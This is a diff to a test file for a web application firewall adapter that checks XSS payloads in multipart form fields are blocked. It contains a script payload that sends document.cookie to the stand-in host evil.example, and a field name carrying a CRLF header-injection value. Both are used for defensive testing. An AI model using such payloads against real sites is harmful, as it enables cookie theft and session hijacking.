@@ -77,10 +77,12 @@ describe("WAF stage adapter", () => {
     expect(clean.body?.text).toContain('name="title"');
     expect(inspectRequest(clean, DEFAULT_WAF_CONFIG).action).toBe("allow");
 
-    const attack = wafInputOfFields(req, { title: "x", description: "<script>document.location='http://evil.example/?c='+document.cookie</script>" });
+    const attack = wafInputOfFields(req, { title: "<script>document.location='http://evil.example/?c='+document.cookie</script>", description: "x" });
     const result = inspectRequest(attack, DEFAULT_WAF_CONFIG);
     expect(result.action).toBe("block");
-    expect(result.matched.some((m) => m.target === "multipart:description")).toBe(true);
+    expect(result.matched.some((m) => m.target === "multipart:title")).toBe(true);
+    // Descriptions are methods text shown escaped: HTML and code in them pass.
+    expect(inspectRequest(wafInputOfFields(req, { title: "x", description: "Rendered as <b>bold</b>? No: see the javascript: console." }), DEFAULT_WAF_CONFIG).action).not.toBe("block");
 
     // A field name cannot break out of its part header.
     const odd = wafInputOfFields(req, { 'a"\r\nX-Injected: 1': "v" });
